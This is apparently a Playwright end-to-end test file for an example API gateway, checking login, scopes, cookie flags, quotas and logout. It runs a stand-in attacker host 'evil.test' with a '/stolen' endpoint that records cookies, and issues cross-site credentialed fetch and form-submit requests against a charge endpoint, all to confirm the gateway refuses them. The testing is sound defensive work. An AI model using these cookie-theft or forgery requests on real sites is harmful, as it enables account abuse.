import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createAuthority } from '@sallyport/pki';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { type Child, startNode } from '../support/child.js';
import { eventually } from '../support/eventually.js';
import { root } from '../support/repository.js';
import { programPath, requireServers } from '../support/servers/programs.js';
import { type TemporaryFolder, temporaryFolder } from '../support/temporary-folder.js';

const CHARGE = '/v1/orders/7/charge';

describe('05-gateway in Chromium', function () {
  this.timeout(60_000);
  requireServers('chromium-headless-shell');
  let folder: TemporaryFolder;
  let example: Child;
  let gateway: string;
  let elsewhere: Server;
  let elsewherePort: number;
  let browser: Browser;
  /** Of somebody who has logged in as ada. */
  let ada: BrowserContext;
  /** Cookies that other places were sent. */
  const stolen: (string | undefined)[] = [];

  before(async () => {
    folder = temporaryFolder();
    example = startNode([join(root, 'examples', 'dist', '05-gateway', 'run.js')], { timeoutMs: 60_000 });
    gateway = (await example.output(/open (https:\S+)/))[1] ?? '';
    const { certificatePem, privateKeyPem } = createAuthority({ trustDomain: 'elsewhere.test' }).issue({
      id: 'spiffe://elsewhere.test/svc/pages',
      dns: ['localhost', 'evil.test'],
    });
    elsewhere = createServer({ cert: certificatePem, key: privateKeyPem }, (request, response) => {
      if (request.url === '/stolen') stolen.push(request.headers.cookie);
      response.setHeader('content-type', 'text/html').end('<!doctype html><title>elsewhere</title>');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    elsewherePort = (elsewhere.address() as AddressInfo).port;
    browser = await chromium.launch({
      executablePath: programPath('chromium-headless-shell'),
      args: ['--host-resolver-rules=MAP * 127.0.0.1'],
      env: { PATH: process.env.PATH ?? '', HOME: folder.path },
    });
    ada = await logIn('ada');
  });

  after(async () => {
    await browser?.close();
    await example?.stop('SIGINT');
    elsewhere?.closeAllConnections();
    elsewhere?.close();
    folder?.[Symbol.dispose]();
  });

  /** The authorities of the example are made when it starts: no browser knows them. */
  function stranger(): Promise<BrowserContext> {
    return browser.newContext({ ignoreHTTPSErrors: true });
  }

  async function logIn(user: string): Promise<BrowserContext> {
    const context = await stranger();
    const page = await context.newPage();
    await page.goto(gateway);
    await page.click('text=Log in');
    await page.fill('input[name=login]', user);
    await page.fill('input[name=password]', 'any');
    await page.click('button[type=submit]');
    await page.waitForSelector('input[name=prompt][value=consent]', { state: 'attached' });
    await page.click('button[type=submit]');
    await page.waitForURL(`${gateway}/`);
    await page.close();
    return context;
  }

  async function open(context: BrowserContext, url: string): Promise<Page> {
    const page = await context.newPage();
    await page.goto(url);
    return page;
  }

  /** Clicks, and resolves with the line that the page then shows. */
  async function shown(page: Page, button: string): Promise<string> {
    const text = async () => (await page.locator('pre').textContent()) ?? '';
    const before = (await text()).length;
    await page.click(`#${button}`);
    await eventually(async () => assert.ok((await text()).length > before, 'the page shows no answer'));
    return (await text()).slice(before).trimEnd();
  }

  it('shows an order to everybody, and refuses to charge whoever has not logged in', async () => {
    const page = await open(await stranger(), gateway);

    assert.match(await shown(page, 'read'), /^200 .*"article":"portcullis"/);
    assert.match(await shown(page, 'charge'), /^401 .*credential-missing/);
  });

  it('refuses to charge somebody whose login does not allow it', async () => {
    const page = await open(await logIn('bob'), gateway);

    assert.match(await shown(page, 'charge'), /^403 .*scope-missing/);
  });

  it('keeps the session in a cookie that scripts do not see and other hosts do not get', async () => {
    const page = await open(ada, gateway);
    const session = (await ada.cookies(gateway)).find(({ name }) => name === '__Host-session');

    assert.deepEqual(
      [session?.domain, session?.path, session?.httpOnly, session?.secure, session?.sameSite],
      ['localhost', '/', true, true, 'Lax'],
    );
    assert.equal(await page.evaluate('document.cookie'), '');

    await open(ada, `https://evil.test:${elsewherePort}/stolen`);
    assert.deepEqual(stolen, [undefined]);
  });

  // Another port of the same host is the same site: the browser sends the cookie along, and only the gateway can refuse.
  for (const host of ['localhost', 'evil.test']) {
    it(`T49 lets a page of ${host} cause nothing and read nothing`, async () => {
      const page = await open(ada, `https://${host}:${elsewherePort}/`);
      const url = JSON.stringify(gateway + CHARGE);
      const options = (type: string) =>
        `{ method: 'POST', credentials: 'include', headers: { 'content-type': '${type}' }, body: '{"cents":500}' }`;
      const outcome = (type: string, mode = '') =>
        page.evaluate(
          `fetch(${url}, { ...${options(type)} ${mode} }).then(({ status }) => status, ({ name }) => name)`,
        );

      assert.equal(await outcome('application/json'), 'TypeError');
      // No preflight asks before these: the request itself is refused, though nobody may read how.
      assert.equal(await outcome('text/plain'), 'TypeError');
      assert.equal(await outcome('text/plain', ", mode: 'no-cors'"), 0);

      await page.evaluate(`document.body.innerHTML = '<form method="post" action=${url}></form>'`);
      const [answer] = await Promise.all([
        page.waitForResponse(gateway + CHARGE),
        page.evaluate('document.forms[0].submit()'),
      ]);
      assert.equal(answer.status(), 403);
      assert.match(await answer.text(), /origin-forbidden/);
    });
  }

  it('describes its routes to people alone, and lets them try a call', async () => {
    const refused = await (await stranger()).newPage().then((page) => page.goto(`${gateway}/docs`));
    assert.equal(refused?.status(), 401);

    const page = await open(ada, `${gateway}/docs`);
    const route = page.locator('details', { hasText: 'GET /v1/orders/{id}' });
    await route.locator('summary').click();
    await route.locator('form input').first().fill('/v1/orders/7');
    await route.getByRole('button', { name: 'Send' }).click();
    const answer = route.locator('form pre');
    await answer.filter({ hasText: /\S/ }).waitFor();

    assert.match((await answer.textContent()) ?? '', /^200 .*"article":"portcullis"/);
  });

  it('charges ada until her quota is used up, and says so on the page', async () => {
    const page = await open(ada, gateway);
    const lines: string[] = [];
    for (let i = 0; i < 4; i++) lines.push(await shown(page, 'charge'));

    // All three are left: nothing of what other pages tried was done in her name.
    assert.match(lines[0] ?? '', /^200 .*"payer":"ada".* \(2 left\)$/);
    assert.match(lines[2] ?? '', /^200 .* \(0 left\)$/);
    assert.match(lines[3] ?? '', /^429 .*try again in \d+ s.* \(0 left\)$/);
  });

  it('knows nobody after the logout', async () => {
    const page = await open(ada, gateway);

    assert.match(await shown(page, 'logout'), /^204/);
    assert.match(await shown(page, 'charge'), /^401 .*credential-missing/);
  });
});
